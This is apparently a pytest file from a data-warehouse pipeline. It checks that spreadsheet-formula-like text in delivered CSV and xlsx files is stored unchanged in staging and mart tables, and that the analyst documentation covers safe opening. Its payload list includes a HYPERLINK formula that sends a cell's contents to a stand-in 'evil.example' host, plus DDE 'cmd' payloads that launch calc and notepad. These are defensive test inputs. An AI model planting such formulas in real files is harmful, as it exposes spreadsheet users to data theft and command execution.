"""Text cells that a spreadsheet would run as a formula are stored as delivered, in staging and in the marts
analysts read (the choice documented in docs/analyst-access.md and the data dictionary): no prefix, no
stripping, byte for byte; the documentation tells analysts how to open them safely."""

from __future__ import annotations

import csv
import datetime as dt
import io
from html import escape
from pathlib import Path

import pytest
import sqlalchemy as sa

from ea_pipelines.catalogue.deliveries import load_delivery_catalogue
from ea_pipelines.deliveries.inbox import Folders
from ea_pipelines.ingest.delivery_file import process_file
from ea_pipelines.reference.regions import RegionIndex
from ea_pipelines.settings import DEFAULT_DELIVERY_CATALOGUE, DEFAULT_SQL_DIR
from ea_pipelines.sqlmodels.project import load_project
from ea_pipelines.sqlmodels.runner import build_all
from ea_pipelines.warehouse.db import Warehouse
from ea_pipelines_tests.deliveries.helpers import csv_bytes, replace_cell, xlsx_bytes

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1;"Klik hier")', "=1+1", "+31 546 541 111", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'", '="="&"HYPERLINK(1)"']
# the first character in each triggering position, after a space or a quote too (Excel trims neither)
CASES = [*PAYLOADS, *(p[0] + " rest" for p in PAYLOADS), "'=quoted already"]
EFFORT_HEADER = ["doel", "inspanning", "status", "periode", "toelichting", "aantal", "eenheid_aantal"]
CONTRIBUTION_HEADER = ["doel", "titel", "tekst", "auteur", "datum", "afbeelding"]


def csv_file(header: list[str], rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=";", lineterminator="\n")
    writer.writerows([header, *rows])
    return csv_bytes(buf.getvalue())


def deliver(wh: Warehouse, folders: Folders, dtype: str, name: str, data: bytes) -> None:
    path = folders.inbox_for(dtype) / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    catalogue = load_delivery_catalogue(DEFAULT_DELIVERY_CATALOGUE)
    outcome = process_file(catalogue.get(dtype), name, folders, wh, RegionIndex.from_code_list(),
                           today=dt.date(2026, 11, 26))
    assert outcome.status == "accepted", outcome.reason


def column(wh: Warehouse, table: str, col: str, order: str) -> list[str]:
    with wh.engine.connect() as conn:
        return [r[0] for r in conn.execute(sa.text(f"SELECT {col} FROM {table} ORDER BY {order}"))]


@pytest.fixture
def folders(tmp_path: Path) -> Folders:
    return Folders(tmp_path / "inbox", tmp_path / "archive", tmp_path / "quarantine")


def test_formula_like_text_is_stored_as_delivered_in_staging_and_marts(wh: Warehouse, folders: Folders) -> None:
    efforts = [["2", f"Inzet {i:02d} {text}"[:200], "lopend", "2025", text, "", text[:60]]
               for i, text in enumerate(CASES)]
    deliver(wh, folders, "programme_efforts", "=inzet.csv", csv_file(EFFORT_HEADER, efforts))
    contributions = [["3", text[:120], text, text[:120], f"{1 + i:02d}-06-2025", text]
                     for i, text in enumerate(CASES)]
    deliver(wh, folders, "qualitative_contributions", "bijdragen.csv", csv_file(CONTRIBUTION_HEADER, contributions))
    build_all(wh, load_project(DEFAULT_SQL_DIR))
    for table in ("staging.programme_efforts", "marts.programme_effort"):
        assert column(wh, table, "explanation", "effort") == CASES, table
        assert column(wh, table, "result_unit", "effort") == [t[:60] for t in CASES], table
        assert set(column(wh, table, "source_file", "effort")) == {"=inzet.csv"}, table
    for table in ("staging.qualitative_contributions", "marts.qualitative_contribution"):
        for col, cut in (("title", 120), ("body", None), ("author", 120), ("image", None)):
            assert column(wh, table, col, "contribution_date") == [t[:cut] for t in CASES], (table, col)


def test_a_text_cell_in_a_workbook_too(wh: Warehouse, folders: Folders) -> None:
    """In an xlsx a string cell starting with = is text (a formula cell has its own type, read by its cached
    result or refused): the text arrives as delivered."""
    text = PAYLOADS[0]
    data = xlsx_bytes([CONTRIBUTION_HEADER, ["3", "Titel", "placeholder", "Auteur", "15-06-2025", ""]])
    data = replace_cell(data, "C2", f'<c r="C2" t="inlineStr"><is><t>{escape(text, quote=False)}</t></is></c>')
    deliver(wh, folders, "qualitative_contributions", "bijdrage.xlsx", data)
    build_all(wh, load_project(DEFAULT_SQL_DIR))
    assert column(wh, "marts.qualitative_contribution", "body", "title") == [text]


def test_the_choice_and_the_safe_way_to_open_are_documented() -> None:
    """The analyst documentation and the data dictionary (the marts' contract) say the cells are kept as
    delivered and how to open them; the data dictionary is generated from the code (docs.py), so it says so."""
    analyst = (ROOT / "docs" / "analyst-access.md").read_text(encoding="utf-8")
    section = analyst.split("## Text cells that look like formulas", 1)[1].split("\n## ", 1)[0]
    for needed in ("as delivered", "=", "+", "-", "@", "From Text/CSV", "Power Query", "'"):
        assert needed in section, needed
    dictionary = (ROOT / "docs" / "warehouse.md").read_text(encoding="utf-8")
    assert "analyst-access.md#text-cells-that-look-like-formulas" in dictionary
